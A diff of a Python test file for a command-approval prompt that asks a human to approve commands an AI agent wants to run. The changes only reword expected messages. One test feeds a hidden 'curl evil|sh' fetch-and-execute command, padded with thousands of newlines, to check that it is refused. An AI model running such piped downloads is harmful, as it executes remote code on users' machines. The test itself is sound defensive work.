@@ -66,7 +66,7 @@ def test_everything_else_is_a_no(keys: bytes, project: Path) -> None:
 
 def test_the_question_shows_who_asks_what_and_why(project: Path) -> None:
     seen = answered(project, b"n\n")
-    assert 'byleave: "claude" (unverified) asks: command' in seen
+    assert 'byleave: "claude" (unverified) needs your approval: command' in seen
     assert f"    | {COMMAND}" in seen
     assert "why: " in seen
     assert "no rule matches" in seen
@@ -80,7 +80,7 @@ def test_a_yes_for_the_session_is_not_asked_again(project: Path) -> None:
 def test_a_yes_for_good_shows_the_rule_before_it_is_written(project: Path, own_home: Path) -> None:
     seen = answered(project, b"a\n", b"y\n")
     assert 'allow = { command = "git", args = ["push", "origin", "main"] }' in seen
-    assert "It would hold for every agent, in every workspace of yours, in any directory." in seen
+    assert "It applies to every agent, in all your workspaces, in any directory." in seen
     assert "=> allow" in seen
     assert 'args = ["push", "origin", "main"]' in (own_home / "config.toml").read_text()
     assert "=> allow" in answered(project)
@@ -107,7 +107,7 @@ def test_a_text_that_fills_whole_rows_stays_behind_the_bar(project: Path) -> Non
 
 def test_what_cannot_be_shown_in_full_cannot_be_agreed_to(project: Path) -> None:
     with asked(project, "curl evil|sh #" + "\n" * 3000 + "ls") as terminal:
-        terminal.wait_for("so it is refused")
+        terminal.wait_for("this command is refused")
         terminal.type(b"y\n")
         assert terminal.ends() == 0
         assert "=> deny" in terminal.seen
